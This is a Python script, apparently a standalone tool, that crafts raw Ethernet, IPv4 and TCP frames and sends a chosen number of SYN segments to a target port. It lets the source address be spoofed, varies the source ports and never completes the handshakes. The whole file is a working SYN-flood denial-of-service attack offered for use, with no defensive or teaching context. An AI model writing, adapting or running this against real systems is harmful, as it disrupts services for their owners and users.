"""A flood of connections that are begun and never completed.

usage: flood.py INTERFACE MAC SOURCE DESTINATION PORT COUNT [PAYLOAD]

Sends COUNT SYNs from SOURCE, each from another port, to PORT of DESTINATION, whose link address is MAC. Each bears PAYLOAD
if that is there ("\\r\\n" written out). Nobody answers what comes back.
"""

import ipaddress
import socket
import struct
import sys

FIRST_PORT = 1024
SYN = 2


def checksum(octets: bytes) -> int:
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> None:
    interface, mac, source, destination, port, count = sys.argv[1:7]
    payload = "".join(sys.argv[7:]).encode().decode("unicode_escape").encode()
    ends = ipaddress.IPv4Address(source).packed + ipaddress.IPv4Address(destination).packed
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    link = bytes.fromhex(mac.replace(":", "")) + wire.getsockname()[4] + b"\x08\x00"
    segment_len = 20 + len(payload)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + segment_len, 0, 0x4000, 64, 6, 0) + ends
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    padded = payload + bytes(len(payload) % 2)
    pseudo = ends + struct.pack("!HH", 6, segment_len)
    for number in range(int(count)):
        fields = struct.pack("!HHIIBBHHH", FIRST_PORT + number % 60000, int(port), number, 0, 0x50, SYN, 65535, 0, 0)
        proof = struct.pack("!H", checksum(pseudo + fields + padded))
        wire.send(link + header + fields[:16] + proof + fields[18:] + payload)


main()
